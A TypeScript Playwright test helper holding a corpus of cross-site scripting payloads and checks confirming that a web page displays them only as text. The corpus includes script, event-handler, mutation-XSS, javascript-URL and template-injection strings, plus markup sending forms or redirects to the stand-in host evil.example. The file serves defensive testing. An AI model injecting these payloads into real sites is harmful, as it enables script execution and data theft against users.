import { expect, type Page } from '@playwright/test';

/** What would run if a page took any of these for markup or code. Each sets `stolen`, or asks another host. */
export const CORPUS = [
  '<script>window.stolen=1</script>',
  '"><script>window.stolen=1</script>',
  "'><img src=x onerror=window.stolen=1>",
  '</textarea><script>window.stolen=1</script>',
  '</title><script>window.stolen=1</script>',
  '</script><script>window.stolen=1</script>',
  '</style><svg onload=window.stolen=1>',
  '</option></select><img src=x onerror=window.stolen=1>',
  '--><script>window.stolen=1</script><!--',
  '<!--><img src=x onerror=window.stolen=1>-->',
  ']]><img src=x onerror=window.stolen=1>',
  '<svg/onload=window.stolen=1>',
  '<svg><style><img src=x onerror=window.stolen=1></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.stolen=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=window.stolen=1>">',
  '<template><img src=x onerror=window.stolen=1></template>',
  '<iframe srcdoc="<script>parent.stolen=1</script>"></iframe>',
  '<a href="javascript:window.stolen=1">x</a>',
  'javascript:window.stolen=1//',
  'JaVaScRiPt&colon;window.stolen=1',
  'data:text/html,<script>opener.stolen=1</script>',
  '" onfocus=window.stolen=1 autofocus x="',
  "' onpointerenter=window.stolen=1 style='position:fixed;inset:0",
  '` onfocus=window.stolen=1 autofocus `',
  '{{constructor.constructor("window.stolen=1")()}}',
  '${window.stolen=1} #{window.stolen=1} <%= window.stolen=1 %>',
  '&lt;img src=x onerror=window.stolen=1&gt; &#60;script&#62;window.stolen=1&#60;/script&#62;',
  '\\u003cscript\\u003ewindow.stolen=1\\u003c/script\\u003e \\";window.stolen=1;//',
  '<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<form action=//evil.example/><button>x</button></form>',
  '\u202e<script>window.stolen=1</script>\u202c \u2066<b>\u2069',
  '\uff1cscript\uff1ewindow.stolen=1\uff1c/script\uff1e \u00bcscript\u00be',
  '\u2028window.stolen=1\u2029',
  '<scr\u00adipt>window.stolen=1</scr\u200bipt> <x/onclick=window.stolen=1>',
];

/** All of it in one text, beginning with another piece each time. */
export function corpus(from: number): string {
  const at = from % CORPUS.length;
  return [...CORPUS.slice(at), ...CORPUS.slice(0, at)].join(' ');
}

/** Notes whatever a page does that text alone never makes it do. Fills as it comes. */
export async function watchForMischief(page: Page): Promise<string[]> {
  const seen: string[] = [];
  page.on('dialog', (dialog) => {
    seen.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('console', (message) => {
    if (/content security policy/i.test(message.text())) seen.push(message.text());
  });
  page.on('request', (request) => {
    if (new URL(request.url()).host === 'evil.example') seen.push(`a request: ${request.url()}`);
  });
  await page.exposeBinding('noteViolation', (_, text: string) => void seen.push(`a violation: ${text}`));
  await page.addInitScript(() => {
    const tell = (window as unknown as { noteViolation(text: string): void }).noteViolation;
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => tell(`${violatedDirective} ${blockedURI}`));
  });
  return seen;
}

/** Fails if anything of the corpus has become an element, an attribute or an address of the page that is open. */
export async function expectTextOnly(page: Page, what: string): Promise<void> {
  const found = await page.evaluate(() => {
    const found: string[] = [];
    if ('stolen' in window) found.push('a script has run');
    // No page of ours has any of these.
    const foreign = 'iframe, object, embed, base, math, mglyph, x, meta[http-equiv], b, script:not([src]):empty';
    for (const element of document.querySelectorAll('*')) {
      const { tagName: tag } = element;
      if (element.matches(foreign)) found.push(`<${tag}>: ${element.outerHTML.slice(0, 100)}`);
      // The attribute is hidden from scripts, the property is not.
      const runs = element instanceof HTMLScriptElement && element.type !== 'application/json';
      if (runs && !element.nonce) found.push(`<script> without a nonce: ${element.text.slice(0, 100)}`);
      for (const { name, value } of element.attributes) {
        const given = `${name} of ${tag}: ${value.slice(0, 100)}`;
        if (name.startsWith('on') || name === 'srcdoc') found.push(given);
        if (name === 'style' && /fixed|inset/.test(value)) found.push(given);
        if (['src', 'href', 'action', 'formaction', 'xlink:href', 'poster', 'ping'].includes(name)) {
          const { protocol, host } = new URL(value, location.href);
          // The icon is part of the page.
          const own = host === location.host && protocol === location.protocol;
          if (!own && !value.startsWith('data:image/svg+xml')) found.push(given);
        }
      }
    }
    return found;
  });
  expect(found, what).toEqual([]);
}
